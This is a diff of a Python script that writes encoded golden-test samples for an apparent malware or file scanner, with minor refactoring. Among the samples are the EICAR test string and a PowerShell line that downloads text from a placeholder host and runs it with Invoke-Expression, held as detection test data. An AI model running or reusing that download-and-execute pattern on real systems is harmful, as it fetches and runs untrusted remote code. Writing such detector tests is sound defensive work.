@@ -1,8 +1,9 @@
 #!/usr/bin/env python3
 """Writes the samples of the golden tests: inert files, each compressed and encoded as text (base64 of zlib).
 
-Encoded, so that no scanner takes the EICAR test file or a synthetic executable for what it looks like. Run it, then
-``UPDATE_GOLDEN=1 cargo test --test golden`` writes the expected outputs, which are to be read before they are committed.
+Encoded, so that no scanner takes the EICAR test file or a synthetic executable for what it looks like. After it,
+``UPDATE_GOLDEN=1 cargo test --test golden`` in ``wasm/`` writes the expected outputs; read them before you
+commit them.
 """
 
 from __future__ import annotations
@@ -10,20 +11,22 @@ from __future__ import annotations
 import base64
 import textwrap
 import zlib
-from pathlib import Path
 
 import documents
 import executables
+from golden import FOLDER
 
-GOLDEN = Path(__file__).parent / "golden"
 X86_64, ARM64 = 0x01000007, 0x0100000C
 
-EICAR = base64.b64decode(
-    "WDVPIVAlQEFQWzRcUFpYNTQoUF4pN0NDKTd9JEVJQ0FSLVNUQU5EQVJELUFOVElWSVJVUy1URVNULUZJTEUhJEgrSCo="
-)
+EICAR = base64.b64decode("WDVPIVAlQEFQWzRcUFpYNTQoUF4pN0NDKTd9JEVJQ0FSLVNUQU5EQVJELUFOVElWSVJVUy1URVNULUZJTEUhJEgrSCo=")
 
-POWERSHELL = b"$c = New-Object Net.WebClient\r\n$x = $c.DownloadString('http://example.invalid/a')\r\nInvoke-Expression $x\r\n"
-MAIL = b"Received: from a.invalid\r\nFrom: a@example.invalid\r\nTo: b@example.invalid\r\nSubject: Invoice\r\nMIME-Version: 1.0\r\n\r\nHello\r\n"
+POWERSHELL = (
+    b"$c = New-Object Net.WebClient\r\n$x = $c.DownloadString('http://example.invalid/a')\r\nInvoke-Expression $x\r\n"
+)
+MAIL = (
+    b"Received: from a.invalid\r\nFrom: a@example.invalid\r\nTo: b@example.invalid\r\n"
+    b"Subject: Invoice\r\nMIME-Version: 1.0\r\n\r\nHello\r\n"
+)
 LINK = bytes.fromhex("4c0000000114020000000000c000000000000046") + b"\0" * 56
 
 
@@ -64,10 +67,10 @@ def samples() -> dict[str, bytes]:
 
 
 def main() -> None:
-    GOLDEN.mkdir(exist_ok=True)
+    FOLDER.mkdir(exist_ok=True)
     for name, content in samples().items():
         encoded = base64.b64encode(zlib.compress(content, 9)).decode()
-        (GOLDEN / f"{name}.b64").write_text(textwrap.fill(encoded, 100) + "\n")
+        (FOLDER / f"{name}.b64").write_text(textwrap.fill(encoded, 100) + "\n")
 
 
 if __name__ == "__main__":
